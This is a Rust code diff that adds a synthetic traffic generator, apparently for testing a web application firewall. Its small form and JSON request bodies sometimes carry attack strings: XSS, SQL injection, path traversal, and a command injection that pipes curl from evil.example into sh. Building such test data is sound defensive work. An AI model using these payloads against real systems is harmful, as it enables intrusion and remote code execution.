@@ -584,6 +584,90 @@ pub fn body_rules() -> String {
     t
 }
 
+/// Small bodies as browsers and apps post them: half forms (a login, a search, a
+/// comment), half small JSON (an item added to a cart, a profile update), 100 to 400 bytes
+/// each, 5 % carrying an attack in one value.
+#[must_use]
+pub fn small_body_requests(n: usize, rng: &mut Rng) -> Vec<OwnedRequest> {
+    let attacks = [
+        "<script>alert(1)</script>",
+        "1' UNION SELECT password FROM users--",
+        "../../etc/passwd",
+        "$(curl evil.example|sh)",
+    ];
+    (0..n)
+        .map(|i| {
+            let text = if rng.chance(20) {
+                attacks[rng.below(attacks.len())].to_string()
+            } else {
+                ["Great shoes, fast delivery", "Size 42 please", "blue"][rng.below(3)].to_string()
+            };
+            let (uri, content_type, body) = match rng.below(4) {
+                0 => (
+                    "/login",
+                    "application/x-www-form-urlencoded",
+                    format!(
+                        "username=user{}&password=Secret-{}&remember=1",
+                        rng.below(10_000),
+                        rng.next_u64() % 1_000_000
+                    ),
+                ),
+                1 => (
+                    "/reviews",
+                    "application/x-www-form-urlencoded",
+                    format!(
+                        "item={}&rating={}&comment={}",
+                        rng.below(100_000),
+                        1 + rng.below(5),
+                        text.replace(' ', "+")
+                    ),
+                ),
+                2 => (
+                    "/api/v1/cart",
+                    "application/json",
+                    format!(
+                        "{{\"sku\": \"SKU-{:06}\", \"qty\": {}, \"note\": {}}}",
+                        rng.below(1_000_000),
+                        1 + rng.below(5),
+                        serde_json_string(&text)
+                    ),
+                ),
+                _ => (
+                    "/api/v1/profile",
+                    "application/json",
+                    format!(
+                        "{{\"name\": \"Customer {i}\", \"email\": \"user{i}@example.com\", \"newsletter\": true, \"bio\": {}}}",
+                        serde_json_string(&text)
+                    ),
+                ),
+            };
+            OwnedRequest {
+                id: None,
+                client_ip: Some(IpAddr::V4(Ipv4Addr::new(198, 51, 100, (i % 250) as u8))),
+                method: "POST".to_string(),
+                uri: uri.to_string(),
+                version: Some("HTTP/1.1".to_string()),
+                headers: vec![
+                    ("host".into(), "shop.example".into()),
+                    (
+                        "user-agent".into(),
+                        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
+                            .into(),
+                    ),
+                    ("content-type".into(), content_type.into()),
+                    ("cookie".into(), format!("session={:x}", rng.next_u64())),
+                ],
+                auth: Auth::default(),
+                geo_country: None,
+                attrs: Vec::new(),
+                time: Some(Duration::from_secs(1_800_000_000 + i as u64)),
+                body: Some(body.into_bytes()),
+                response: None,
+            }
+        })
+        .collect()
+}
+
 /// API traffic with ~4 KB JSON bodies (a user, an order with line items, a comment), 5%
 /// carrying an attack in one value.
 #[must_use]
